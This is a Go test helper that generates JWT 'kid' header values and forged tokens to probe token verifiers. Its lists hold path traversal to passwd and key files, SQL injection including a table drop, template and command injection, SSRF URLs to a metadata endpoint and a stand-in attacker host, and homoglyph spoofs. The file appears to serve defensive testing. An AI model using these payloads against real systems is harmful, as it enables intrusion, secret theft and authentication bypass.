package tokentest

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// keyNames are 500 and more kids by which verifiers have been led to files,
// tables, templates, shells, networks and each other's keys.
func keyNames(kid string) []string {
	var all []string
	for _, up := range []string{"../", "..\\", "%2e%2e%2f", "%252e%252e%252f", "..%c0%af", "..%ef%bc%8f", "..;/", "....//", "/./../"} {
		for _, file := range []string{"etc/passwd", "dev/null", "proc/self/environ", "windows/win.ini", "var/lib/usher/usher.db", "master.key"} {
			for _, tail := range []string{"", "\x00", "%00.pem", "#"} {
				all = append(all, strings.Repeat(up, 6)+file+tail)
			}
		}
	}
	for _, quote := range []string{"'", `"`, "`", "')", `\'`, "%27", "ʼ"} {
		for _, then := range []string{" or 1=1--", " or '1'='1", "; drop table signing_key;--", " union select 'secret'--", " union select null,'c2VjcmV0'--", "||(select secret)||",
			"; attach database '/tmp/x' as y;--", " and sleep(5)--", "; select pg_sleep(5)--", " procedure analyse()#"} {
			all = append(all, kid+quote+then, "x"+quote+then)
		}
	}
	for _, open := range []string{"{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%%%s%%}", "[[%s]]", "*{%s}", "@(%s)", "$(%s)", "`%s`", "|%s", ";%s", "&& %s", "!{%s}"} {
		for _, inside := range []string{"7*7", "config", "system('id')", "''.__class__", "jndi:ldap://127.0.0.1/x", "T(java.lang.Runtime)", "env:HOME"} {
			all = append(all, fmt.Sprintf(open, inside))
		}
	}
	for _, scheme := range []string{"http", "https", "file", "ftp", "gopher", "ldap", "dict", "jar", "data", "javascript", "netdoc", "php", "unix", "redis"} {
		for _, where := range []string{"//127.0.0.1:1/key", "//[::1]/key", "///etc/passwd", "//169.254.169.254/latest", "//attacker.example/jwks.json", "text/plain,secret"} {
			all = append(all, scheme+":"+where)
		}
	}
	return append(all, spellings(kid)...)
}

// spellings are names that look like kid, decode to it, or begin as it does.
func spellings(kid string) []string {
	all := []string{
		base64.RawURLEncoding.EncodeToString([]byte(kid)), strings.ToUpper(kid) + "K", kid + "\u200b", "\u200b" + kid, "\ufeff" + kid, kid + "\u00ad", kid + "\u202e", kid + "\u0301",
		"\u2066" + kid + "\u2069", kid + "\u2028", kid + "\u00a0", "\t" + kid, kid + "\r\n", kid + "\v", kid + ".", kid + "/", "/" + kid, "./" + kid, kid + "?", kid + "#", "#" + kid,
		kid + ",", kid + ";", kid + ":", kid + "|" + kid, kid + "," + kid, "[" + kid + "]", "{" + kid + "}", `"` + kid + `"`, "'" + kid + "'", kid + "\\", kid + "*", kid + "%", "%" + kid,
		"urn:kid:" + kid, "kid=" + kid, "realm/" + kid, "platform:" + kid, kid + "@platform", kid + "+1", kid + "-1", kid + "\x7f", kid + "\x01", kid + "\u0085",
	}
	for i, from := range []string{"a", "e", "o", "i", "c", "p", "x", "y", "k", "-", "_", "0", "1", "l"} {
		to := []string{"\u0430", "\u0435", "\u043e", "\u0456", "\u0441", "\u0440", "\u0445", "\u0443", "\u212a", "\u2010", "\uff3f", "O", "l", "1"}[i]
		if strings.Contains(kid, from) {
			all = append(all, strings.Replace(kid, from, to, 1))
		}
	}
	for i := 1; i < len(kid) && i <= 8; i++ {
		all = append(all, kid[:len(kid)-i], kid[i:])
	}
	return all
}

// namedKeys sends each name with the old signature and, in turn, with what an
// attacker would hope that it leads to.
func (m *maker) namedKeys() {
	for i, id := range keyNames(m.kid) {
		if id == m.kid {
			continue
		}
		name := fmt.Sprintf("kid %.40q", id)
		switch i % 3 {
		case 0:
			m.add(name+" with the old signature", encode([]byte(head3(m.alg, &id)))+"."+m.body+"."+m.sig)
		case 1:
			m.add(name+" with its own text as the secret", hmacToken("HS512", head3("HS512", &id), m.payload, []byte(id)))
		default:
			m.add(name+" with an empty secret", hmacToken("HS256", head3("HS256", &id), m.payload, nil))
		}
	}
}
